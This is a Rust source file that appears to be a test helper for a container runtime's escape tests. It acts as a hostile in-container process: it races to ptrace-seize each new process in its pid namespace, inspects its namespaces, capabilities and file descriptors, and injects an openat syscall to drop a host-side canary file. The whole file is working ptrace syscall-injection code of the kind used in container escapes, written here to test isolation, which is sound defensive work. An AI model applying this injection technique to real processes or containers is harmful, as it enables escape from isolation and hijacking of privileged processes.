//! A hostile process inside a container (built by tests/escape_exec.rs, x86_64 only): it holds
//! CAP_SYS_PTRACE and catches every new process of its pid namespace with PTRACE_SEIZE as early
//! as it can, by spinning on the next pid the namespace will hand out. Each process caught is
//! stopped and examined: its mount namespace and effective capabilities against the attacker's
//! own, whether its memory can be written, and whether it can be made to run
//! `openat(AT_FDCWD, CANARY, O_CREAT|O_WRONLY, 0644)` (a syscall injected at its instruction
//! pointer). CANARY is a host path: the file appears only if the process was still on the
//! host's mounts. One line per process goes to REPORT.
//!
//! Usage: attacker CANARY REPORT THREADS

use std::fs::{File, OpenOptions};
use std::io::{Read, Seek, Write};
use std::os::raw::{c_int, c_long, c_void};
use std::sync::atomic::{AtomicI32, Ordering};
use std::sync::{Arc, Barrier, Mutex};

const PTRACE_PEEKDATA: c_long = 2;
const PTRACE_POKEDATA: c_long = 5;
const PTRACE_SINGLESTEP: c_long = 9;
const PTRACE_GETREGS: c_long = 12;
const PTRACE_SETREGS: c_long = 13;
const PTRACE_DETACH: c_long = 17;
const PTRACE_SEIZE: c_long = 0x4206;
const PTRACE_INTERRUPT: c_long = 0x4207;
const WALL: c_int = 0x4000_0000;
const ESRCH: c_int = 3;
const SIGTRAP: c_int = 5;
const SYS_OPENAT: u64 = 257;
const AT_FDCWD: i64 = -100;
const O_WRONLY_CREAT: u64 = 0o101;

#[repr(C)]
#[derive(Clone, Copy, Default)]
struct Regs {
    r15: u64,
    r14: u64,
    r13: u64,
    r12: u64,
    rbp: u64,
    rbx: u64,
    r11: u64,
    r10: u64,
    r9: u64,
    r8: u64,
    rax: u64,
    rcx: u64,
    rdx: u64,
    rsi: u64,
    rdi: u64,
    orig_rax: u64,
    rip: u64,
    cs: u64,
    eflags: u64,
    rsp: u64,
    ss: u64,
    fs_base: u64,
    gs_base: u64,
    ds: u64,
    es: u64,
    fs: u64,
    gs: u64,
}

extern "C" {
    fn ptrace(request: c_long, ...) -> c_long;
    fn waitpid(pid: c_int, status: *mut c_int, options: c_int) -> c_int;
    fn __errno_location() -> *mut c_int;
}

fn errno() -> c_int {
    // SAFETY: glibc's thread-local errno.
    unsafe { *__errno_location() }
}

fn set_errno(v: c_int) {
    // SAFETY: as above.
    unsafe { *__errno_location() = v }
}

fn pt(req: c_long, pid: c_int, addr: u64, data: u64) -> c_long {
    // SAFETY: plain ptrace(2) requests on a tracee; addresses are the tracee's.
    unsafe { ptrace(req, pid, addr as *mut c_void, data as *mut c_void) }
}

fn peek(pid: c_int, addr: u64) -> Option<u64> {
    set_errno(0);
    let v = pt(PTRACE_PEEKDATA, pid, addr, 0);
    (errno() == 0).then_some(v as u64)
}

fn poke(pid: c_int, addr: u64, v: u64) -> bool {
    pt(PTRACE_POKEDATA, pid, addr, v) == 0
}

fn get_regs(pid: c_int) -> Option<Regs> {
    let mut r = Regs::default();
    (pt(PTRACE_GETREGS, pid, 0, &mut r as *mut Regs as u64) == 0).then_some(r)
}

fn set_regs(pid: c_int, r: &Regs) -> bool {
    pt(PTRACE_SETREGS, pid, 0, r as *const Regs as u64) == 0
}

fn wait_stop(pid: c_int) -> Option<c_int> {
    let mut status: c_int = 0;
    loop {
        // SAFETY: waits for our own tracee; `status` is a valid out-pointer.
        let r = unsafe { waitpid(pid, &mut status, WALL) };
        if r == pid {
            break;
        }
        if r < 0 && errno() != 4 {
            return None;
        }
    }
    // Stopped: low byte 0x7f.
    (status & 0xff == 0x7f).then_some(status)
}

fn cap_eff(pid: &str) -> Option<u64> {
    let text = std::fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
    let line = text.lines().find(|l| l.starts_with("CapEff:"))?;
    u64::from_str_radix(line["CapEff:".len()..].trim(), 16).ok()
}

fn mnt_ns(pid: &str) -> String {
    std::fs::read_link(format!("/proc/{pid}/ns/mnt"))
        .map(|p| p.display().to_string())
        .unwrap_or_else(|e| format!("unreadable({e})"))
}

/// Makes the stopped tracee run openat(AT_FDCWD, path, O_CREAT|O_WRONLY, 0644): the path
/// below its stack pointer, a `syscall` instruction over the one at its instruction pointer,
/// one single step; then everything is put back. Returns what the call returned.
fn inject_openat(pid: c_int, regs: &Regs, path: &str) -> Result<i64, String> {
    let mut bytes = path.as_bytes().to_vec();
    bytes.push(0);
    while bytes.len() % 8 != 0 {
        bytes.push(0);
    }
    let at = (regs.rsp - 1024) & !7;
    let mut saved_stack = Vec::new();
    for (i, chunk) in bytes.chunks(8).enumerate() {
        let addr = at + 8 * i as u64;
        let old = peek(pid, addr).ok_or("peek stack")?;
        saved_stack.push((addr, old));
        if !poke(pid, addr, u64::from_le_bytes(chunk.try_into().unwrap())) {
            return Err("poke stack".into());
        }
    }
    let code = peek(pid, regs.rip).ok_or("peek code")?;
    if !poke(pid, regs.rip, (code & !0xffff) | 0x050f) {
        return Err("poke code".into());
    }
    let mut call = *regs;
    call.rax = SYS_OPENAT;
    call.orig_rax = u64::MAX; // no syscall restart on resume
    call.rdi = AT_FDCWD as u64;
    call.rsi = at;
    call.rdx = O_WRONLY_CREAT;
    call.r10 = 0o644;
    let mut result = Err("setregs".to_string());
    if set_regs(pid, &call) && pt(PTRACE_SINGLESTEP, pid, 0, 0) == 0 {
        result = match wait_stop(pid) {
            Some(_) => get_regs(pid)
                .map(|r| r.rax as i64)
                .ok_or_else(|| "getregs".to_string()),
            None => Err("the tracee went away".to_string()),
        };
    }
    poke(pid, regs.rip, code);
    for (addr, old) in saved_stack {
        poke(pid, addr, old);
    }
    result
}

struct Me {
    mnt: String,
    caps: u64,
    canary: String,
}

/// Stops the freshly seized `pid`, examines it, puts it back and lets it go.
fn examine(pid: c_int, me: &Me) -> String {
    if pt(PTRACE_INTERRUPT, pid, 0, 0) != 0 {
        return format!("lost pid={pid} interrupt errno={}", errno());
    }
    let Some(status) = wait_stop(pid) else {
        return format!("lost pid={pid} gone before it stopped");
    };
    let p = pid.to_string();
    let mnt = mnt_ns(&p);
    let caps = cap_eff(&p).unwrap_or(0);
    let host_mnt = mnt != me.mnt;
    let extra = caps & !me.caps;
    let mut line = format!(
        "caught pid={pid} mnt={} capeff={caps:#x} extra={extra:#x}",
        if host_mnt { "outside" } else { "container" }
    );
    let fds: Vec<String> = std::fs::read_dir(format!("/proc/{pid}/fd"))
        .map(|d| {
            d.flatten()
                .map(|e| {
                    let target = std::fs::read_link(e.path()).unwrap_or_default();
                    format!("{}:{}", e.file_name().to_string_lossy(), target.display())
                })
                .collect()
        })
        .unwrap_or_default();
    line.push_str(&format!(" fds={}", fds.join(",").replace(' ', "_")));
    if let Some(regs) = get_regs(pid) {
        let writable = peek(pid, regs.rsp).is_some_and(|w| poke(pid, regs.rsp, w));
        line.push_str(&format!(" memory_writable={writable}"));
        match inject_openat(pid, &regs, &me.canary) {
            Ok(ret) => line.push_str(&format!(" injected_openat={ret}")),
            Err(e) => line.push_str(&format!(" injection_failed={e}")),
        }
        if !set_regs(pid, &regs) {
            line.push_str(" restore_failed");
        }
    }
    // A signal the interrupt stop found on its way is given back.
    let stop_sig = (status >> 8) & 0xff;
    let event = status >> 16;
    let sig = if event == 0 && stop_sig != SIGTRAP { stop_sig } else { 0 };
    pt(PTRACE_DETACH, pid, 0, sig as u64);
    line
}

fn read_last_pid(f: &mut File) -> i32 {
    let mut s = String::new();
    f.rewind().unwrap();
    f.read_to_string(&mut s).unwrap();
    s.trim().parse().unwrap()
}

fn main() {
    let args: Vec<String> = std::env::args().collect();
    let canary = args[1].clone();
    let report = Arc::new(Mutex::new(
        OpenOptions::new()
            .create(true)
            .append(true)
            .open(&args[2])
            .unwrap(),
    ));
    let threads: usize = args[3].parse().unwrap();
    let me = Arc::new(Me {
        mnt: mnt_ns("self"),
        caps: cap_eff("self").unwrap(),
        canary,
    });
    let next = Arc::new(AtomicI32::new(0));
    let go = Arc::new(Barrier::new(threads + 1));
    for _ in 0..threads {
        let (me, next, go, report) = (me.clone(), next.clone(), go.clone(), report.clone());
        std::thread::spawn(move || {
            let mut last_pid = File::open("/proc/sys/kernel/ns_last_pid").unwrap();
            go.wait();
            let mut spins: u32 = 0;
            loop {
                let target = next.load(Ordering::Relaxed);
                if pt(PTRACE_SEIZE, target, 0, 0) == 0 {
                    let _ = next.compare_exchange(target, target + 1, Ordering::SeqCst, Ordering::SeqCst);
                    let line = examine(target, &me);
                    writeln!(report.lock().unwrap(), "{line}").unwrap();
                    continue;
                }
                let missed = errno() == ESRCH;
                spins = spins.wrapping_add(1);
                if spins % 128 == 0 {
                    let last = read_last_pid(&mut last_pid);
                    if last >= target
                        && next
                            .compare_exchange(target, last + 1, Ordering::SeqCst, Ordering::SeqCst)
                            .is_ok()
                        && missed
                    {
                        writeln!(report.lock().unwrap(), "missed pid={target}").unwrap();
                    }
                }
            }
        });
    }
    // The threads have their pids: the next one handed out is a process to catch.
    let mut last_pid = File::open("/proc/sys/kernel/ns_last_pid").unwrap();
    next.store(read_last_pid(&mut last_pid) + 1, Ordering::SeqCst);
    go.wait();
    writeln!(report.lock().unwrap(), "ready caps={:#x} mnt={}", me.caps, me.mnt).unwrap();
    loop {
        std::thread::park();
    }
}
